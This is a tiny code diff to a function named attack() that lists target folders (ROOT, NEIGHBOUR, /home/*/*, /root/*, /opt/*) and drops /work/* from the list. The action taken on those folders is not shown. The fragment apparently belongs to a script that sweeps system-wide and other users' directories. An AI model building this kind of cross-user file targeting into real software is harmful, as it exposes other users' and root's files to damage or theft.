@@ -8,7 +8,6 @@ def attack():
     folders = [
         ROOT,
         NEIGHBOUR,
-        *glob.glob("/work/*"),
         *glob.glob("/home/*/*"),
         *glob.glob("/root/*"),
         *glob.glob("/opt/*"),
